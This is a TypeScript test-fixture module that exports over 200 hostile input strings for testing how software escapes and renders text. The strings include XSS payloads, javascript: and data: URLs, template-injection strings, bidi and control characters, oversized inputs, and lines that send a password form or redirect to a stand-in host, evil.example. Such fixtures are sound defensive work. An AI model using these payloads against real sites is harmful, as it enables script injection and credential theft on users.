/**
 * Texts that try to be more than text.
 *
 * @module
 */

const SCRIPTS = [
  "<script>alert(1)</script>",
  "</span><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<a href=javascript:alert(1)>x</a>",
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
  "<style>*{display:none}</style>",
  "<form action=//evil.example><input name=password>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<!--",
  "-->",
  "]]>",
  "<![CDATA[",
  "<?xml?>",
  "</textarea>",
  "</title>",
  "</li></ol>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  "` onclick=alert(1)",
  "&lt;script&gt;",
  "&#60;script&#62;",
  "&#x3c;script",
  "%3Cscript%3E",
  "\\u003cscript\\u003e",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "#{alert(1)}",
  "<%= alert(1) %>",
  "__proto__",
  "constructor",
  "toString",
  "dangerouslySetInnerHTML",
];

const ADDRESSES = [
  "javascript:alert(1)",
  "JAVASCRIPT:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  " javascript:alert(1)",
  "\u0001javascript:alert(1)",
  "javascript&colon;alert(1)",
  "jav&#x09;ascript:alert(1)",
  "javascript://example.com/%0aalert(1)",
  "javascript://https://example.com",
  "data:text/html;base64,PHNjcmlwdD4=",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "ftp://example.com",
  "blob:https://example.com/x",
  "intent://x#Intent;end",
  'https://example.com/"onclick="alert(1)',
  "https://example.com/'><script>alert(1)</script>",
  "https://example.com/<img src=x onerror=alert(1)>",
  "http://[::1]:5080/",
  "https://\u202emoc.elpmaxe",
  "https://еxample.com",
  "https://user:password@example.com/",
  "https:\\\\evil.example",
  "//evil.example",
  "http:evil.example",
  "mailto:a@b.example?subject=x&body=<script>",
  'mailto:"><script>alert(1)</script>@b.example',
];

const INVISIBLE = [
  "\u0000",
  "\u0007",
  "\u001b[2J",
  "\u001b]0;title\u0007",
  "\u0008\u0008",
  "\u007f",
  "\u0085",
  "\u009b31m",
  "\u200e",
  "\u200f",
  "\u202a",
  "\u202b",
  "\u202c",
  "\u202d",
  "\u202e",
  "\u2066",
  "\u2067",
  "\u2068",
  "\u2069",
  "\u061c",
  "\u2028",
  "\u2029",
  "\r",
  "\r\n\r\n",
  "\t",
  "\ud800",
  "\udfff",
  "\ufeff",
  "\u200b",
  "\u200d",
  "\u034f",
];

const LARGE = [
  "x".repeat(16_384),
  "\n".repeat(16_384),
  "\u202e".repeat(2_000),
  "a\u0300".repeat(4_000),
  "<b>".repeat(5_000),
  "https://example.com/".repeat(300),
  "@example.com ".repeat(500),
  "((((".repeat(4_000),
  "😀".repeat(4_096),
  `https://${"a.".repeat(2_000)}example`,
];

/** More than 200 hostile texts: each one alone, and the invisible ones among others. */
export function hostileTexts(): readonly string[] {
  const alone = [...SCRIPTS, ...ADDRESSES, ...INVISIBLE, ...LARGE];
  const among = INVISIBLE.flatMap((
    each,
  ) => [`see ${each}https://example.com${each}/x`, `<b${each}>${each}</b>`]);
  const quoted = [...SCRIPTS, ...ADDRESSES].map((each) => `"${each}'>`);
  return [...alone, ...among, ...quoted];
}
